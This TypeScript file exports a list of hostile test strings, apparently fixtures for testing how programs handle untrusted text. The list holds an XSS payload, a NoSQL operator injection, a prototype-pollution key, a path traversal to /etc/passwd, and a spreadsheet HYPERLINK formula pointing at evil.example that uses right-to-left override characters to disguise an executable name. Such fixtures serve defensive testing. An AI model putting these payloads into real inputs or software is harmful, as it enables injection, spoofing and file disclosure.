/** Texts that harm programs which treat text as something else. Each is valid JSON. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '{"$gt":""}',
  '__proto__',
  'a\u0000b',
  'a\ud800b',
  '=HYPERLINK("http://evil.example";"\u202egnp.exe\u202c")',
  '../../../../etc/passwd',
  'state.auth.>',
  'A'.repeat(20_000),
];
